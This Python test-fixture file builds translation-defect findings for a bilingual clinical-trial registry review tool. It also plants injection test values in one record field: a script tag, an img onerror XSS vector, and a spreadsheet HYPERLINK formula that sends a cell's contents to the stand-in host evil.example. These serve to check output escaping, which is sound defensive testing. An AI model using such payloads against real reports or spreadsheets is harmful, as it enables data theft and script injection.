"""Findings built by hand on seed 003's real defects, the way the review engine reports them, for testing the
report writers and XLIFF before (and apart from) the engine. Spans are found by reading the record's values."""
from __future__ import annotations

from bilingual_registry.model import Finding, Record, Span


def _finding(record: Record, check: str, severity: str, message: str, key: str, group=None, index=None,
             zh: str | None = None, en: str | None = None, side: str = "en", suggestion: str | None = None) -> Finding:
    """A finding on one field; `zh` / `en` are the flagged pieces, looked up in the field's values."""
    field = record.get(key, group, index)
    assert field is not None, (key, group, index)
    spans = {}
    for lang, piece in (("zh", zh), ("en", en)):
        value = getattr(field, lang).value
        if piece is None:
            spans[lang] = []
            continue
        at = value.index(piece)
        spans[lang] = [Span(start=at, end=at + len(piece))]
    return Finding(check=check, severity=severity, message=message, registration_number=record.registration_number,
                   field=key, group=group, index=index, zh_label=field.zh.label, en_label=field.en.label, side=side,
                   zh_spans=spans["zh"], en_spans=spans["en"], zh_text=field.zh.value, en_text=field.en.value,
                   suggestion=suggestion, source=record.source.path)


def seed_003_findings(record: Record) -> list[Finding]:
    """The five defects the issue names on seed 003, plus a lower-case institution name (info)."""
    out = [
        _finding(record, "truncation", "error", "the English stops mid-sentence: '…was used as the'",
                 "time_point", "outcomes", 2, en="was used as the"),
        _finding(record, "partial-translation", "warning",
                 "the English covers only part of the Chinese: the start date and the follow-up cut-off are missing",
                 "time_point", "outcomes", 1, zh="从开始免疫联合化疗之日起", en="first disease progression", side="both"),
        _finding(record, "brackets", "warning", "an opening '(' is never closed on the English side (the Chinese closes it)",
                 "inclusion_criteria", zh="(如EGFR", en="(such as"),
    ]
    for key, en in (("applicant", "XiaoYun Hu"), ("study_leader", "Xiaoyun Hu"), ("funding_sources", "Hu Xiaoyun")):
        out.append(_finding(record, "name-consistency", "warning",
                            "胡晓云 is romanised three ways in this record: XiaoYun Hu, Xiaoyun Hu, Hu Xiaoyun",
                            key, zh="胡晓云", en=en, suggestion="Xiaoyun Hu"))
    for key, group, index in (("study_leader_address", None, None), ("ethics_contact_address", None, None),
                              ("primary_sponsor_address", None, None), ("address", "secondary_sponsors", 0)):
        out.append(_finding(record, "inconsistent-translation", "warning",
                            "无锡市清扬路299号 is translated 'No. 299 Qingyang Road, Wuxi City' in applicant_address",
                            key, group, index, zh="无锡市清扬路299号", en="Wuxi Qingyang road 299",
                            suggestion="No. 299 Qingyang Road, Wuxi City"))
    out.append(_finding(record, "institution-case", "info", "an institution's name has a word in lower case",
                        "study_leader_affiliation", en="people’s"))
    return out


HOSTILE_ZH = "<script>window.__pwned = 1</script>示例市胸科医院"
HOSTILE_EN = '=HYPERLINK("http://evil.example/?"&A1,"click")<img src=x onerror="window.__pwned = 2"> Example Chest Hospital'


def hostile_example(record: Record) -> tuple[Record, list[Finding]]:
    """The example record with markup and a formula typed into a field, and findings on the record's fields
    of three checks and all three severities (one pointing into the hostile text)."""
    fields = [f.model_copy(update={"zh": f.zh.model_copy(update={"value": HOSTILE_ZH}),
                                   "en": f.en.model_copy(update={"value": HOSTILE_EN})})
              if f.key == "primary_sponsor" else f for f in record.fields]
    record = record.model_copy(update={"fields": fields})
    findings = [
        _finding(record, "markup", "error", "the English holds markup: <img onerror=…>", "primary_sponsor",
                 zh="<script>", en='<img src=x onerror="window.__pwned = 2">', side="both",
                 suggestion="<b>Example Chest Hospital</b>"),
        _finding(record, "lost-character", "warning", "a ? between letters was left after repair", "public_title",
                 en="PD-1"),
        _finding(record, "lost-character", "warning", "a ? between letters was left after repair", "scientific_title",
                 en="PD-1"),
        _finding(record, "name-consistency", "info", "王明 romanised as Wang Ming", "applicant", zh="王明", en="Wang Ming"),
        Finding(check="markup", severity="warning", message="=1+1 a record-level finding",
                registration_number=record.registration_number, source=record.source.path),
    ]
    return record, findings
